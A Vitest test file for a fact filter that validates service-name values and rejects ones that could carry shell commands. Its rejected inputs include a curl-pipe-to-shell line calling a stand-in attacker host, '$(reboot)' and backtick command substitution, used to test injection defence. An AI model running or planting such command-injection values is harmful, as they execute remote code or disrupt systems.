import { expect, test } from 'vitest'
import { createFactFilter, isMasked } from './facts'

const allowed = createFactFilter([
  { id: 'unit.name', label: 'service', blank: 'the service', pattern: '[A-Za-z0-9@._-]{1,80}', shown: true },
])

test('a value that fits is let through', () => {
  expect(allowed({ 'unit.name': 'php8.2-fpm' })).toEqual({ 'unit.name': 'php8.2-fpm' })
})

test.each(['x; curl evil.example | sh', '$(reboot)', 'a b', '`id`', 'x\ny', ''])(
  'a value that could be a command is not: %s',
  (value) => {
    expect(allowed({ 'unit.name': value })).toEqual({})
  },
)

test('a fact nobody defined is not let through', () => {
  expect(allowed({ 'unit.owner': 'root' })).toEqual({})
})

test('a masked value may be shown, and is known as masked', () => {
  expect(allowed({ 'unit.name': '<host-1>' })).toEqual({ 'unit.name': '<host-1>' })
  expect(isMasked('<host-1>')).toBe(true)
  expect(isMasked('host-1')).toBe(false)
})
